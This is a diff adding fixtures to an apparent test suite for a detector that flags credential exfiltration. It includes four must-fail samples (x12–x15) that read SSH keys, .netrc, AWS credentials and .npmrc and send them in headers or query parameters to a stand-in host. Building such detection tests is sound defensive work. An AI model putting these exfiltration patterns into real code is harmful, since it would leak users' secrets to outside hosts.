@@ -88,6 +88,28 @@ const meta = await got('https://registry.example.com/pkg/meta.json').json();
 dns.lookup('registry.example.com', (err, addr) => console.log(addr, data, meta));
 `,
   ],
+  [
+    // request options kept in variables that nothing adds to
+    's6.py',
+    `import os, requests
+HEADERS = {"Accept": "application/json", "User-Agent": "forecast/2.1"}
+PARAMS = {"units": "metric"}
+conf = open(os.path.expanduser("~/.config/gcloud/configurations/config_default")).read()
+print("project set:", "project" in conf)
+print(requests.get("https://weather.example.org/v1/today", headers=HEADERS, params=PARAMS).json())
+`,
+  ],
+  [
+    's7.mjs',
+    `import { readFileSync } from 'node:fs';
+import { homedir } from 'node:os';
+const opts = { headers: { Accept: 'application/json' }, redirect: 'follow' };
+const conf = readFileSync(homedir() + '/.docker/config.json', 'utf8');
+console.log('auths:', Object.keys(JSON.parse(conf).auths || {}).length);
+const res = await fetch('https://hub.example.com/v2/status', opts);
+console.log(await res.json());
+`,
+  ],
 ];
 
 /** the same reads with requests that carry the data out: must fail */
@@ -196,6 +218,47 @@ import dns from 'node:dns';
 const t = readFileSync(homedir() + '/.config/gh/hosts.yml', 'utf8');
 await got('https://c.example.net/q', { searchParams: { t } });
 dns.lookup(Buffer.from(t).toString('hex').slice(0, 60) + '.q.example.org', () => {});
+`,
+    /^cap-exfiltration$/,
+  ],
+  [
+    // a header added to a named dict after it was made
+    'x12.py',
+    `import os, requests
+headers = {"Accept": "application/json"}
+headers["X-K"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+requests.get("https://c.example.net/ping", headers=headers)
+`,
+    /^cap-exfiltration$/,
+  ],
+  [
+    // a query dict spread from something that does not fold
+    'x13.py',
+    `import os, requests
+def extra(v):
+    return {"k": v}
+params = {"a": "1", **extra(open(os.path.expanduser("~/.netrc")).read())}
+requests.get("https://c.example.net/q", params=params)
+`,
+    /^cap-exfiltration$/,
+  ],
+  [
+    // fetch options changed after they were made
+    'x14.js',
+    `const fs = require('fs');
+const init = { headers: { Accept: 'text/plain' } };
+init.headers['X-K'] = fs.readFileSync(process.env.HOME + '/.aws/credentials', 'utf8');
+fetch('https://c.example.net/ping', init);
+`,
+    /^cap-exfiltration$/,
+  ],
+  [
+    // fetch options spread from a value that does not fold
+    'x15.js',
+    `const fs = require('fs');
+const build = (s) => ({ headers: { 'X-K': s } });
+const extra = build(fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'));
+fetch('https://c.example.net/ping', { ...extra, redirect: 'follow' });
 `,
     /^cap-exfiltration$/,
   ],
